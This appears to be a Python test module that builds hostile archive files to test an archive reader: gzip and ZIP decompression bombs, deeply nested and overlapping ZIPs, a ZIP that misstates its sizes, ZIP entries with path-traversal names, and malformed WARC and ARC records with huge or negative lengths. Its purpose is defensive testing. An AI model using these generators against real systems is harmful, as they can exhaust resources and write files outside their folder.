"""Attacks by archives: what unfolds to far more than it is, lies about its length, or points out of its folder."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator

from .made import Attack, gzipped, html, zipped

_BLANKS = b" " * 1_000_000
_FRONT = b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: https://courier.example/a\r\n"
_ANSWER = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n"


def by_archives() -> Iterator[Attack]:
    """Return the attacks by ZIP, gzip, WARC, ARC and WACZ."""
    yield Attack("gzip-bomb", "1 GB of blanks in gzip", "a.html.gz", lambda: gzipped(_BLANKS, 1_000))
    yield Attack("gzip-gzip", "1 GB of blanks in gzip in gzip", "a.gz", lambda: gzipped(gzipped(_BLANKS, 1_000)))
    yield Attack("gzip-members", "300,000 empty gzip members", "a.gz", lambda: gzipped(b"") * 300_000)
    yield Attack("zip-bomb", "1 GB of blanks in a ZIP file", "a.zip", lambda: zipped({"a.html": _BLANKS}, 1_000))
    yield Attack("zip-pages", "60 pages of 19 MB in a ZIP file", "a.zip", _large_pages)
    yield Attack("zip-nested", "ZIP files in ZIP files, 12 deep", "a.zip", _nested)
    yield Attack("zip-wide", "ZIP files of ten ZIP files, 4 deep", "a.zip", _wide)
    yield Attack("zip-upwards", "a ZIP file with paths upwards", "a.zip", _upwards)
    yield Attack(
        "zip-upwards-many",
        "20,000 paths upwards",
        "a.zip",
        lambda: zipped({f"../{n}.html": b"x" for n in range(20_000)}),
    )
    yield Attack(
        "zip-many", "a ZIP file with 20,000 members", "a.zip", lambda: zipped({f"{n}.txt": b"x" for n in range(20_000)})
    )
    yield Attack("zip-overlap", "20,000 names for one member of 10 MB", "a.zip", _overlapping)
    yield Attack("zip-quine", "a ZIP file that lies about its sizes", "a.zip", _lying)
    yield Attack("wacz-bomb", "a WACZ file with 1 GB in a record", "a.wacz", _wacz)
    yield Attack("warc-bomb", "a gzip record of 1 GB in a WARC file", "a.warc.gz", _packed_record)
    yield Attack("warc-inner", "an answer of 1 GB that is packed itself", "a.warc", _packed_answer)
    yield Attack("warc-length", "a WARC record that says it has 9 GB", "a.warc", lambda: _record(9_000_000_000))
    yield Attack("warc-short", "300,000 WARC records of no length", "a.warc", lambda: _record(0, b"") * 300_000)
    yield Attack("warc-negative", "100,000 records of negative length", "a.warc", lambda: _record(-5) * 100_000)
    yield Attack(
        "warc-header", "a WARC record whose header is 20 MB", "a.warc", lambda: _FRONT + b"X: y\r\n" * 3_300_000
    )
    yield Attack(
        "warc-lines", "9,000,000 lines that are no record", "a.warc", lambda: b"WARC/1.0\r\n" + b"x\n" * 9_000_000
    )
    yield Attack("arc-length", "an ARC record that says it has 9 GB", "a.arc", lambda: _arc(9_000_000_000))
    yield Attack("arc-lines", "5,000,000 lines that are no record", "a.arc", lambda: _arc(0) + b"x\n" * 5_000_000)


def _large_pages() -> bytes:
    return zipped({f"{number}.html": b"<p>" + b" " * 19_000_000 + b"%d" % number for number in range(60)})


def _nested() -> bytes:
    inner = html()
    for _ in range(12):
        inner = zipped({"a.zip" if inner[:2] == b"PK" else "a.html": inner})
    return inner


def _wide() -> bytes:
    inner = html()
    for _ in range(4):
        inner = zipped({f"{number}.{'zip' if inner[:2] == b'PK' else 'html'}": inner for number in range(10)})
    return inner


def _upwards() -> bytes:
    return zipped({"../../escaped.html": html(), "/escaped.html": html("<p>2"), "c:\\escaped.html": html("<p>3")})


def _entry(name: bytes, packed: bytes, size: int, crc: int, stated: int) -> tuple[bytes, bytes]:
    """A member and its place in the list of members, with `{at}` still to be filled in (the last four bytes)."""
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(packed), stated, len(name), 0)
    return b"PK\x03\x04" + common + name + packed, b"PK\x01\x02" + struct.pack("<H", 20) + common + bytes(10)


def _zip_of(bodies: bytes, listed: list[bytes]) -> bytes:
    directory = b"".join(listed)
    end = struct.pack("<HHHHIIH", 0, 0, len(listed), len(listed), len(directory), len(bodies), 0)
    return bodies + directory + b"PK\x05\x06" + end


def _overlapping() -> bytes:
    content = b"<p>" + b" " * 10_000_000
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(content) + packer.flush()
    body, front = _entry(b"00000.html", packed, len(content), zlib.crc32(content), len(content))
    return _zip_of(body, [front + bytes(4) + b"%05d.html" % number for number in range(20_000)])


def _lying() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(packer.compress(_BLANKS) for _ in range(500)) + packer.flush()
    body, front = _entry(b"a.html", packed, 10, 0, 10)
    return _zip_of(body, [front + bytes(4) + b"a.html"])


def _record(length: int, body: bytes = b"x") -> bytes:
    return _FRONT + b"Content-Length: %d\r\n\r\n%s\r\n\r\n" % (length, body)


def _packed_record() -> bytes:
    front = gzipped(_FRONT + b"Content-Length: 1000000000\r\n\r\n" + _ANSWER)
    return front + gzipped(_BLANKS, 1_000)


def _packed_answer() -> bytes:
    answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\n\r\n" + gzipped(_BLANKS, 1_000)
    return _record(len(answer), answer)


def _wacz() -> bytes:
    return zipped({"datapackage.json": b"{}", "archive/a.warc.gz": _packed_record()})


def _arc(length: int) -> bytes:
    head = b"filedesc://x 0.0.0.0 20310410000000 text/plain 5\n1 0 A\n\n"
    return head + b"https://courier.example/a 0.0.0.0 20310410000000 text/html %d\n" % length + html()
